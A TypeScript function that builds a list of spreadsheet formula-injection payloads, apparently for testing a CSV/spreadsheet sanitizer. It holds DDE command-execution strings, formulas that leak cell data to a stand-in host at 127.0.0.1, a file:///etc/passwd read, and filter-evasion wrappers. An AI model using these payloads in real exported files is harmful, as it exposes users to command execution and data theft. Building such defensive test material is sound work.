/**
 * Texts that make a spreadsheet compute, fetch or run something when it takes them for formulas:
 * every sign that starts one, in front of what attackers put behind it, alone and after the blanks,
 * quotes and separators that hide it from a filter.
 */
export function formulaPayloads(): readonly string[] {
  const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=-", "=+", "@@", "+-"];
  const bodies = [
    "1+1",
    "SUM(1,2)",
    "2+5+cmd|' /C calc'!A0",
    "cmd|'/k notepad'!'A1'",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://127.0.0.1:9/?leak="&A1;"ici")',
    'WEBSERVICE("http://127.0.0.1:9/"&A1)',
    'IMPORTXML("http://127.0.0.1:9/","//a")',
    "'file:///etc/passwd'#$passwd.A1",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "A1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
  ];
  const hidden: readonly ((payload: string) => string)[] = [
    (payload) => payload,
    (payload) => `\t${payload}`,
    (payload) => `\r${payload}`,
    (payload) => ` ${payload}`,
    (payload) => `\u00a0${payload}`,
    (payload) => `'${payload}`,
    (payload) => `ok;${payload};fin`,
    (payload) => `ok\n${payload}`,
    (payload) => `"${payload}"`,
    (payload) => `,${payload}`,
  ];
  return hidden.flatMap((hide) => signs.flatMap((sign) => bodies.map((body) => hide(sign + body))));
}
